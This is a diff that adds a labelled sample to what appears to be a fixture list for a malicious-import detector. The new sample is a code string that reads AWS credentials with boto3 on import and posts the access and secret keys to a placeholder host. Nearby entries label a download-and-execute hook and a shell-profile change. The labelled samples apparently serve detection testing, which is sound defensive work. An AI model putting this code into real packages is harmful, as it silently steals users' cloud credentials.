@@ -72,6 +72,14 @@ RUN_BY_IMPORT = (
            "                            stdout=subprocess.DEVNULL)\n"
            "_started = run_quietly()\n",
            "hook/download-exec"),
+    Sample("cloud-keys-posted-on-import",
+           "import boto3, requests\n"
+           "def _check():\n"
+           "    found = boto3.Session().get_credentials()\n"
+           "    pair = {'a': found.access_key, 'b': found.secret_key}\n"
+           "    requests.post('https://example.invalid/k', json=pair, timeout=5)\n"
+           "_check()\n",
+           "hook/env-exfiltration"),
     Sample("shell-profile-extended-from-the-top-level",
            "from pathlib import Path\n"
            "def _remember():\n"
